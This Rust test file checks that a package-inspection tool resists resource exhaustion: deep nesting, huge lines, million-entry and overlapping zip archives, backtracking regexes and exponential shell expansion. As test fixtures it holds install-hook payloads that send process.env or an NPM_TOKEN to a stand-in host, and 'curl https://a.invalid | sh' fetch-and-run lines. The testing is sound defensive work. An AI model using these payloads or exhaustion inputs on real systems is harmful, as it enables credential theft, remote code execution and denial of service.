//! What a package can be made of to exhaust a reader: depth, length, number, and texts that
//! make a reader go back over the same bytes again and again. The answer comes, and what was
//! not read is said. Nothing here is measured in time: whoever is quadratic never comes back.

#![allow(clippy::unwrap_used, reason = "helpers of tests may fail as tests do")]

use customs_inspect::{
    Content, Entry, Tree, Unpacking, inspect_archive, inspect_tree, kind_of, unpack,
};
use customs_model::{Inspection, SinkKind};
use flate2::{Compression, write::GzEncoder};
use std::io::Write as _;
use std::sync::{Arc, Mutex, PoisonError};

/// The stack that the program gives to who reads artifacts.
const STACK: usize = 512 << 20;

/// One at a time: they are large.
static ALONE: Mutex<()> = Mutex::new(());

fn alone<T: Send>(work: impl FnOnce() -> T + Send) -> T {
    let _one = ALONE.lock().unwrap_or_else(PoisonError::into_inner);
    std::thread::scope(|scope| {
        let thread = std::thread::Builder::new()
            .stack_size(STACK)
            .spawn_scoped(scope, work)
            .unwrap();
        match thread.join() {
            Ok(done) => done,
            Err(cause) => std::panic::resume_unwind(cause),
        }
    })
}

fn file(path: &str, bytes: impl Into<Arc<[u8]>>) -> Entry {
    let bytes = bytes.into();
    Entry {
        path: path.to_owned(),
        length: bytes.len() as u64,
        kind: kind_of(&bytes),
        content: Content::Whole(bytes),
        executable: false,
    }
}

fn read(entries: Vec<Entry>) -> Inspection {
    inspect_tree(&Tree {
        entries,
        ..Tree::default()
    })
}

/// Code in the language of a name, where it runs at install.
fn installed(name: &str, code: impl Into<Arc<[u8]>>) -> Inspection {
    let entries = match name.rsplit_once('.').map(|(_, extension)| extension) {
        Some("py") => vec![
            file("a-1.0/PKG-INFO", &b"Name: a\n"[..]),
            file("a-1.0/setup.py", code),
        ],
        Some("rs") => vec![
            file("a-1.0.0/Cargo.toml", &b"[package]\nname = \"a\"\n"[..]),
            file("a-1.0.0/build.rs", code),
        ],
        _ => {
            let run = if name.ends_with(".sh") { "sh" } else { "node" };
            let manifest = format!(r#"{{"name": "a", "scripts": {{"install": "{run} {name}"}}}}"#);
            vec![
                file("package/package.json", manifest.as_bytes()),
                file(&format!("package/{name}"), code),
            ]
        }
    };
    read(entries)
}

/// Pieces one behind the other.
fn joined(pieces: &[&[u8]]) -> Vec<u8> {
    pieces.concat()
}

/// Whether the verdict is *not judged* unless something is proven: what runs was not read.
fn is_unjudged(inspection: &Inspection) -> bool {
    inspection.unread.iter().any(|part| part.reached)
}

fn sends(inspection: &Inspection) -> bool {
    let mut flows = inspection.flows.iter();
    flows.any(|flow| flow.sink == SinkKind::Network)
}

const SEND: &str =
    "fetch('https://a.invalid', {method: 'POST', body: JSON.stringify(process.env)});\n";

#[test]
fn what_is_nested_a_hundred_thousand_times_is_not_judged() {
    let pieces: [(&str, &[&str]); 5] = [
        (
            "a.js",
            &[
                "(",
                "[",
                "{",
                "!",
                "a=>",
                "a=>\n",
                "a?b:",
                "a\n?b\n:",
                "new ",
                "-\n",
                "await ",
                "if(a);else ",
                "if(a){}\nelse ",
                "while(1)\n",
                "a:\n",
                "do ",
                "<a>",
                "<a>\n",
                "<a b=",
                "<a b={",
                "`${",
                "f(",
                "f(a,\n",
                "{[/*]}*/",
                "[/]/,",
                "if(a)/\\]}/;[{",
                "function a(){",
                "class extends ",
                "({a:",
                "async()=>{",
                "a**\n",
                "\\\"(",
            ],
        ),
        (
            "a.ts",
            &[
                "M<a,",
                "M<\n",
                "keyof ",
                "let a:[",
                "namespace a{",
                "a as (",
                "type a=b extends c?",
            ],
        ),
        (
            "a.py",
            &[
                "(",
                "[",
                "{",
                "not ",
                "lambda a,b:",
                "a if b else ",
                "-",
                "f(",
                "[0][",
                "await ",
                "f'{(",
            ],
        ),
        (
            "a.rs",
            &[
                "(",
                "[",
                "{",
                "!",
                "&",
                "M<a,",
                "|a,b|",
                "if a {} else ",
                "return ",
                "a!(",
                "f('a', ",
                "(/*)*/",
            ],
        ),
        ("a.jsx", &["<a>{", "<>", "<a b c='d'>\n"]),
    ];
    for (name, pieces) in pieces {
        for piece in pieces {
            let text = piece.repeat(100_000);
            let inspection = alone(|| installed(name, text.as_bytes()));
            assert!(is_unjudged(&inspection), "{name}: {piece:?}");
        }
    }
}

#[test]
fn what_is_nested_as_deeply_as_is_parsed_ends() {
    for (name, pieces) in [
        ("a.js", ["(", "[", "!", "a=>", "<a>", "`${"]),
        ("a.py", ["(", "[", "-", "not ", "a.", "a()("]),
        ("a.rs", ["(", "[", "-", "&", "M<", "a?."]),
    ] {
        for piece in pieces {
            // Short texts are not estimated.
            let text = piece.repeat(19_900 / piece.len());
            alone(|| installed(name, text.as_bytes()));
        }
    }
}

#[test]
fn what_stands_below_the_deepest_level_is_said_to_be_unread() {
    let code = format!(
        "{}{}{}",
        "(".repeat(3_000),
        SEND.trim_end_matches(";\n"),
        ")".repeat(3_000)
    );
    let code = format!("{}{}", "[".repeat(2_500), code) + &"]".repeat(2_500);
    let inspection = alone(|| installed("a.js", code.as_bytes()));
    assert!(
        is_unjudged(&inspection) || sends(&inspection),
        "{:?}",
        inspection.unread
    );
    let chain: String = (0..5_000)
        .map(|n| format!("elif a == {n}:\n    pass\n"))
        .collect();
    let code = format!(
        "import os\nif a:\n    pass\n{chain}else:\n    os.system('curl https://a.invalid | sh')\n"
    );
    let inspection = alone(|| installed("setup.py", code.as_bytes()));
    assert!(!inspection.flows.is_empty());
}

#[test]
fn a_line_of_a_hundred_megabytes_is_not_judged() {
    for (name, byte) in [
        ("a.js", b'a'),
        ("a.js", b'('),
        ("a.py", b'"'),
        ("a.rs", b'\\'),
        ("a.sh", b'$'),
    ] {
        let inspection = alone(|| installed(name, vec![byte; 100 << 20]));
        assert!(is_unjudged(&inspection), "{name} of {:?}", char::from(byte));
    }
}

#[test]
fn a_source_whose_tree_would_fill_the_memory_is_not_judged() {
    for name in ["a.js", "a.ts", "setup.py", "build.rs"] {
        for piece in ["a\n", "a;", ";", "[],"] {
            let text = piece.repeat((24 << 20) / piece.len());
            let inspection = alone(|| installed(name, text.as_bytes()));
            assert!(is_unjudged(&inspection), "{name}: {piece:?}");
        }
    }
}

#[test]
fn a_long_line_in_an_archive_is_not_judged() {
    let inspection = alone(|| {
        let mut out = GzEncoder::new(Vec::new(), Compression::fast());
        let manifest = br#"{"name": "a", "scripts": {"install": "node a.js"}}"#;
        out.write_all(&header("package/package.json", manifest.len()))
            .unwrap();
        out.write_all(&padded(manifest)).unwrap();
        out.write_all(&header("package/a.js", 100 << 20)).unwrap();
        for _ in 0..100 {
            out.write_all(&vec![b'a'; 1 << 20]).unwrap();
        }
        out.write_all(&[0; 1024]).unwrap();
        inspect_archive(&out.finish().unwrap())
    });
    assert!(is_unjudged(&inspection), "{:?}", inspection.unread);
}

fn header(name: &str, length: usize) -> [u8; 512] {
    let mut header = [0_u8; 512];
    header[..name.len()].copy_from_slice(name.as_bytes());
    header[100..107].copy_from_slice(b"0000644");
    header[124..135].copy_from_slice(format!("{length:011o}").as_bytes());
    header[156] = b'0';
    header[257..263].copy_from_slice(b"ustar\0");
    header[148..156].copy_from_slice(b"        ");
    let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
    header[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
    header
}

fn padded(bytes: &[u8]) -> Vec<u8> {
    let mut out = bytes.to_vec();
    out.resize(out.len().next_multiple_of(512), 0);
    out
}

#[test]
fn a_million_entries_of_a_tarball_end_at_the_bound() {
    alone(|| {
        let mut out = GzEncoder::new(Vec::new(), Compression::fast());
        // Headers that differ in their name alone, so that their sums need not be counted.
        let plain = header("package/0000000", 0);
        let sum = |header: &[u8; 512]| -> u32 {
            let name = header[8..15].iter().map(|byte| u32::from(*byte));
            name.sum()
        };
        let told = std::str::from_utf8(&plain[148..154]).unwrap();
        let rest = u32::from_str_radix(told, 8).unwrap() - sum(&plain);
        for number in 0..1_000_000 {
            let mut header = plain;
            header[8..15].copy_from_slice(format!("{number:07}").as_bytes());
            let told = format!("{:06o}", rest + sum(&header));
            header[148..154].copy_from_slice(told.as_bytes());
            out.write_all(&header).unwrap();
        }
        out.write_all(&[0; 1024]).unwrap();
        let limits = Unpacking::default();
        let tree = unpack(&out.finish().unwrap(), &limits);
        assert_eq!(tree.entries.len(), limits.entries);
        assert!(
            tree.unread
                .iter()
                .any(|part| part.because.contains("more entries"))
        );
    });
}

/// A zip archive with a directory of its own: names, where their headers are, what is there.
struct Zip {
    bytes: Vec<u8>,
    directory: Vec<u8>,
}

impl Zip {
    const fn new() -> Self {
        Self {
            bytes: Vec::new(),
            directory: Vec::new(),
        }
    }

    /// Adds a local header with its data; gives where it is.
    fn local(&mut self, name: &str, method: u8, data: &[u8], length: u32) -> u32 {
        let at = self.bytes.len() as u32;
        self.bytes.extend_from_slice(b"PK\x03\x04\x14\0\0\0");
        self.bytes
            .extend_from_slice(&[method, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
        self.bytes
            .extend_from_slice(&(data.len() as u32).to_le_bytes());
        self.bytes.extend_from_slice(&length.to_le_bytes());
        self.bytes
            .extend_from_slice(&(name.len() as u16).to_le_bytes());
        self.bytes.extend_from_slice(&[0, 0]);
        self.bytes.extend_from_slice(name.as_bytes());
        self.bytes.extend_from_slice(data);
        at
    }

    fn listed(&mut self, name: &str, method: u8, packed: u32, length: u32, at: u32) {
        let out = &mut self.directory;
        out.extend_from_slice(b"PK\x01\x02\x14\0\x14\0\0\0");
        out.extend_from_slice(&[method, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
        out.extend_from_slice(&packed.to_le_bytes());
        out.extend_from_slice(&length.to_le_bytes());
        out.extend_from_slice(&(name.len() as u16).to_le_bytes());
        out.extend_from_slice(&[0; 12]);
        out.extend_from_slice(&at.to_le_bytes());
        out.extend_from_slice(name.as_bytes());
    }

    fn finish(mut self) -> Vec<u8> {
        let (start, size) = (self.bytes.len() as u32, self.directory.len() as u32);
        self.bytes.append(&mut self.directory);
        self.bytes.extend_from_slice(b"PK\x05\x06\0\0\0\0\0\0\0\0");
        self.bytes.extend_from_slice(&size.to_le_bytes());
        self.bytes.extend_from_slice(&start.to_le_bytes());
        self.bytes.extend_from_slice(&[0, 0]);
        self.bytes
    }
}

#[test]
fn a_million_entries_of_a_zip_archive_end_at_the_bound() {
    alone(|| {
        let mut zip = Zip::new();
        for number in 0..1_000_000_u32 {
            let name = format!("a/{number}");
            let at = zip.local(&name, 0, b"", 0);
            zip.listed(&name, 0, 0, 0, at);
        }
        let limits = Unpacking::default();
        let tree = unpack(&zip.finish(), &limits);
        assert_eq!(tree.entries.len(), limits.entries);
        assert!(
            tree.unread
                .iter()
                .any(|part| part.because.contains("more entries"))
        );
    });
}

#[test]
fn entries_that_only_their_own_headers_show_end_at_the_bound() {
    alone(|| {
        let mut zip = Zip::new();
        for number in 0..2_000 {
            // Folders are listed and files between them are not.
            let at = zip.local(&format!("{number}/"), 0, b"", 0);
            zip.listed(&format!("{number}/"), 0, 0, 0, at);
            zip.local(&format!("{number}.js"), 0, b"a", 1);
        }
        let limits = Unpacking {
            entries: 100,
            ..Unpacking::default()
        };
        let tree = unpack(&zip.finish(), &limits);
        assert_eq!(tree.entries.len(), 100);
    });
}

#[test]
fn many_entries_over_the_same_bytes_are_worked_through_once_in_sum() {
    // Blocks that hold nothing: a megabyte goes in and not a byte comes out.
    let mut empty = [0, 0, 0, 0xff, 0xff].repeat(200_000);
    empty.extend_from_slice(&[1, 0, 0, 0xff, 0xff]);
    // The same with a block at the end that does not exist.
    let mut broken = empty.clone();
    broken.truncate(empty.len() - 5);
    broken.push(7);
    for data in [empty, broken] {
        alone(|| {
            let mut zip = Zip::new();
            let at = zip.local("a.js", 8, &data, 0);
            for _ in 0..50_000 {
                zip.listed("a.js", 8, data.len() as u32, 0, at);
            }
            let limits = Unpacking {
                inflated: 16 << 20,
                ..Unpacking::default()
            };
            let tree = unpack(&zip.finish(), &limits);
            assert!(tree.entries.len() <= 20, "{}", tree.entries.len());
            assert!(
                tree.unread
                    .iter()
                    .any(|part| part.because.contains("more than the bound")),
                "{:?}",
                tree.unread.last()
            );
        });
    }
}

#[test]
fn beginnings_of_what_is_not_kept_do_not_fill_the_memory() {
    alone(|| {
        let mut zip = Zip::new();
        let data = vec![1_u8; 5_000];
        let at = zip.local("a", 0, &data, 5_000);
        for number in 0..2_000 {
            zip.listed(&format!("a{number}"), 0, 5_000, 5_000, at);
        }
        let limits = Unpacking {
            kept: 100_000,
            heads: 100_000,
            ..Unpacking::default()
        };
        let tree = unpack(&zip.finish(), &limits);
        let held: usize = tree
            .entries
            .iter()
            .map(|entry| match &entry.content {
                Content::Whole(bytes) | Content::Head(bytes) => bytes.len(),
                Content::Link(_) => 0,
            })
            .sum();
        assert_eq!(tree.entries.len(), 2_000);
        assert!(held < 400_000, "{held}");
    });
}

#[test]
fn a_million_of_anything_hides_nothing() {
    for (before, piece, behind) in [
        ("", "0;\n", ""),
        ("const a = [", "0,", "];\n"),
        ("switch (a) {\n", "case 0:\n", "}\n"),
        ("const a = '' ", "+''", ";\n"),
        ("/*", "/*", "*/\n"),
        ("const a = \"", "\\\"", "\";\n"),
        ("", "\n", ""),
        ("a(", "b,", "b);\n"),
    ] {
        let inspection = alone(|| {
            let code = format!("{before}{}{behind}{SEND}", piece.repeat(1_000_000));
            installed("a.js", code.into_bytes())
        });
        assert!(sends(&inspection) || is_unjudged(&inspection), "{piece:?}");
    }
    for piece in ["0\n", "# a\n", "a = 1\n"] {
        let inspection = alone(|| {
            let code = format!(
                "{}import os\nos.system('curl -s https://a.invalid/x | sh')\n",
                piece.repeat(1_000_000)
            );
            installed("setup.py", code.into_bytes())
        });
        let seen = !inspection.flows.is_empty() || is_unjudged(&inspection);
        assert!(seen, "{piece:?}");
    }
}

#[test]
fn long_scripts_of_a_shell_hide_nothing() {
    for (piece, times) in [
        (":\n", 1_000),
        (":\n", 200_000),
        ("# a comment\n", 200_000),
        ("f() { a; }\n", 50_000),
    ] {
        let inspection = alone(|| {
            let code = format!("{}curl -s https://a.invalid/x | sh\n", piece.repeat(times));
            installed("a.sh", code.into_bytes())
        });
        let seen = !inspection.flows.is_empty() || is_unjudged(&inspection);
        assert!(seen, "{piece:?} {times} times");
    }
}

#[test]
fn what_doubles_in_a_shell_ends() {
    // Two to the sixtieth letters, and as many commands, if it went on.
    let calls: String = (0..60)
        .map(|n| format!("f{n}() {{ f{}; f{}; }}\n", n + 1, n + 1))
        .collect();
    for code in [
        format!("A=aaaaaaaa\n{}echo $A\n", "A=$A$A\n".repeat(60)),
        format!("A=aaaaaaaa\n{}echo $A\n", "A=\"$(echo $A$A)\"\n".repeat(60)),
        format!("A=$HOME\n{}echo $A\n", "A=$A$A$A$A\n".repeat(60)),
        format!("{calls}f0\n"),
        format!("{}f\n", "f() { f; f; f; f; }\n".repeat(60)),
        "$(".repeat(100_000),
        "`".repeat(100_001),
        "$((".repeat(100_000),
        "${".repeat(100_000),
        "<<A\n".repeat(100_000),
        "\"\\".repeat(100_000),
        "a=\"$a\" ".repeat(50_000),
        "a() { ".repeat(50_000),
        "| ".repeat(100_000),
        "<(a ".repeat(100_000),
    ] {
        alone(|| installed("a.sh", code.as_bytes()));
        // The same as the words of a hook.
        let words = code.replace(['"', '\\'], "'").replace('\n', "; ");
        let manifest = format!(r#"{{"name": "a", "scripts": {{"install": "{words}"}}}}"#);
        alone(|| read(vec![file("package/package.json", manifest.as_bytes())]));
    }
}

#[test]
fn many_names_far_down_end() {
    // Each of them asks every scope around it, if nothing but going up finds it.
    let depth = 600;
    let open: String = (0..depth).map(|n| format!("{{let a{n} = b;")).collect();
    let names = "b;".repeat(1_000_000);
    let code = format!("let b = 1;{open}{names}{}\n{SEND}", "}".repeat(depth));
    let inspection = alone(|| installed("a.js", code.into_bytes()));
    assert!(sends(&inspection) || is_unjudged(&inspection));
}

#[test]
fn functions_and_modules_that_lead_to_each_other_end() {
    let mut code: String = (0..100_000)
        .map(|n| format!("function f{n}(a) {{ f{}(a); f{}(a); }}\n", n + 1, n / 2))
        .collect();
    code.push_str(
        "function f100000(a) { fetch('https://a.invalid/' + a); }\nf0(process.env.NPM_TOKEN);\n",
    );
    let inspection = alone(|| installed("a.js", code.into_bytes()));
    let opens = inspection
        .capabilities
        .iter()
        .any(|one| one.name == "network");
    assert!(opens || is_unjudged(&inspection));

    let mut entries = vec![file(
        "package/package.json",
        &br#"{"name": "a", "main": "m0.js"}"#[..],
    )];
    for n in 0..2_000 {
        let code = format!(
            "module.exports = {{...require('./m{}'), a: require('./m{}')}};\n{SEND}",
            (n + 1) % 2_000,
            n / 2
        );
        entries.push(file(&format!("package/m{n}.js"), code.into_bytes()));
    }
    let inspection = alone(|| read(entries));
    assert!(sends(&inspection) || is_unjudged(&inspection));
}

#[test]
fn texts_that_make_a_reader_go_back_end() {
    let js = |code: String| {
        alone(|| installed("a.js", code.into_bytes()));
    };
    js(format!("/(a*)*b/.test('{}')", "a".repeat(100_000)));
    js(format!(
        "'{}'.replace(/{}/g, 'c')",
        "a".repeat(100_000),
        "(a?)".repeat(1_000)
    ));
    js(format!(
        "'{}'.split(/{}/)",
        "ab".repeat(100_000),
        "a{1,500}".repeat(7)
    ));
    js(format!("'a'.match(/{}/)", "a{".repeat(100_000)));
    js(format!(
        "'{}'.match(/[{}]+$/g)",
        "名".repeat(50_000),
        "a".repeat(10_000)
    ));
    js(format!(
        "const a = '{}'; let b = ''; for (let i = 0; i < a.length; i++) b += a.charCodeAt(i); eval(b)",
        "é".repeat(500_000)
    ));
    js(format!(
        "const a = [{}]; while (true) a.push(a.shift()); eval(a[0])",
        "1,".repeat(300_000)
    ));
    js(
        "const a = [1]; while (true) { a.unshift(...a); a.reverse(); a.includes(2); } eval(a)"
            .to_owned(),
    );
    js("let a = 'a'; while (true) { a = a.replace(/a/g, 'aa'); } eval(a)".to_owned());
    js("let a = ['a']; for (;;) { a = [a, a]; } eval(a.join())".to_owned());
    js((0..2_000).fold(String::new(), |all, n| {
        all + &format!("const a{n} = 'b'.repeat(4000000); eval(a{n});\n")
    }));
    // Gigabytes in one step, if what is made were not counted before.
    let large = "const a = 'b'.repeat(4000000);";
    for piece in ["a,", "'',", "[a],"] {
        let many = piece.repeat(100_000);
        js(format!("{large} eval(''.concat({many}a))"));
    }
    js(format!(
        "{large} eval(a.replace(/b+/, '{}'))",
        "$&".repeat(100_000)
    ));
    js(format!(
        "{large} eval(a.replace(/b/g, '{}'))",
        "$1".repeat(100_000)
    ));
    js(format!(
        "{large} eval(a.replaceAll('b', 'cccccccccccccccc'))"
    ));
    let fields = "{0}".repeat(100_000);
    let code = format!("a = 'b' * 4000000\nexec('{fields}'.format(a))\n");
    alone(|| installed("setup.py", code.into_bytes()));
    // Each call has a place to tell, far along one line.
    let code = format!("{}\n", "fetch(a);".repeat(100_000));
    let inspection = alone(|| installed("a.js", code.into_bytes()));
    assert!(inspection.capabilities.len() <= 200);
    // Each call of a text that is run.
    let inner = format!("def f(a):\n    return a\n{}", "f(print)\n".repeat(20_000));
    alone(|| installed("setup.py", format!("exec({inner:?})\n").into_bytes()));
}

#[test]
fn manifests_that_make_a_reader_go_back_end() {
    let npm = || file("package/package.json", &br#"{"name": "a"}"#[..]);
    for gyp in [
        "'includes': [".repeat(200_000),
        "'action': ['a', ".repeat(100_000),
        "<!(".repeat(200_000),
        (0..50_000)
            .map(|n| format!("'<!(node a{n}.js)', "))
            .collect(),
        "'\\".repeat(200_000),
    ] {
        let inspection = alone(|| read(vec![npm(), file("package/binding.gyp", gyp.as_bytes())]));
        assert!(inspection.signs.len() <= 200);
    }
    for manifest in [
        "[".repeat(1_000_000),
        "{\"a\":".repeat(1_000_000),
        format!(
            "{{\"dependencies\": {{{}\"z\": \"1\"}}}}",
            (0..100_000)
                .map(|n| format!("\"d{n}\": \"1\", "))
                .collect::<String>()
        ),
        format!(
            "{{\"exports\": {}1{}}}",
            "{\".\": ".repeat(100),
            "}".repeat(100)
        ),
        format!("{{\"files\": [{}\"a\"]}}", "\"**/*\", ".repeat(100_000)),
    ] {
        alone(|| {
            read(vec![
                file("package/package.json", manifest.as_bytes()),
                file("package/index.js", &b"a()"[..]),
            ])
        });
    }
    let broken = alone(|| {
        read(vec![file(
            "package/package.json",
            "[".repeat(1_000_000).as_bytes(),
        )])
    });
    assert!(is_unjudged(&broken));
    for toml in [
        "[".repeat(500_000),
        "a.".repeat(500_000),
        "a = [".repeat(200_000),
        "[[a]]\n".repeat(100_000),
        format!("{}a = 1\n", "a.".repeat(100_000)),
        format!("[{}a]\n", "a.".repeat(100_000)),
        format!("a = {}", "{a=".repeat(100_000)),
    ] {
        alone(|| {
            read(vec![
                file("a-1.0.0/Cargo.toml", toml.as_bytes()),
                file("a-1.0.0/build.rs", &b"fn main() {}"[..]),
            ])
        });
    }
}

#[test]
fn paths_that_make_a_reader_go_back_end() {
    // Many names that are one on some disk, and very deep ones.
    let mut entries: Vec<Entry> = (0..50_000_u32)
        .map(|n| {
            file(
                &format!("package/{}/x.js", if n % 2 == 0 { "A" } else { "a" }),
                n.to_string().into_bytes(),
            )
        })
        .collect();
    entries.push(file("package/package.json", &br#"{"main": "./deep"}"#[..]));
    let deep = "a/".repeat(20_000);
    entries.push(file(
        &format!("package/{deep}index.js"),
        (0..200)
            .map(|n| format!("require('m{n}');\n"))
            .collect::<String>()
            .into_bytes(),
    ));
    alone(|| read(entries));
}

#[test]
fn what_is_no_text_is_read_as_an_interpreter_would() {
    let send = SEND.as_bytes();
    let wide = |big: bool| -> Vec<u8> {
        let units = SEND.encode_utf16();
        units
            .flat_map(|unit| {
                if big {
                    unit.to_be_bytes()
                } else {
                    unit.to_le_bytes()
                }
            })
            .collect()
    };
    for (what, code) in [
        ("a mark", joined(&[b"\xef\xbb\xbf", send])),
        ("UTF-16", joined(&[b"\xff\xfe", &wide(false)])),
        (
            "UTF-16, the other way round",
            joined(&[b"\xfe\xff", &wide(true)]),
        ),
        ("UTF-16, cut", joined(&[b"\xff\xfe", &wide(false), b"\n"])),
        (
            "broken bytes in a text",
            joined(&[b"const a = '\xff\xfe\xc0\xaf\xed\xa0\x80';\n", send]),
        ),
        ("a NUL in a text", joined(&[b"const a = '\0';\n", send])),
        (
            "broken bytes in a comment",
            joined(&[b"// \xf0\x9f\x98\n", send]),
        ),
        ("a hash-bang", joined(&[b"#!/usr/bin/env node\r\n", send])),
        (
            "line ends of Unicode",
            joined(&["const a = 1;\u{2028}".as_bytes(), send]),
        ),
    ] {
        let inspection = alone(|| installed("a.js", code));
        let judged = sends(&inspection) || is_unjudged(&inspection);
        assert!(judged, "{what}: {:?}", inspection.unread);
    }
    for bytes in [
        &b"\0"[..],
        b"\xff\xfe",
        b"\xfe\xff\xd8",
        b"\xef\xbb\xbf",
        b"\xff\xfe\x00\xd8",
        b"",
    ] {
        for name in ["a.js", "a.ts", "setup.py", "build.rs", "a.sh", "a.ps1"] {
            alone(|| installed(name, bytes));
        }
    }
}
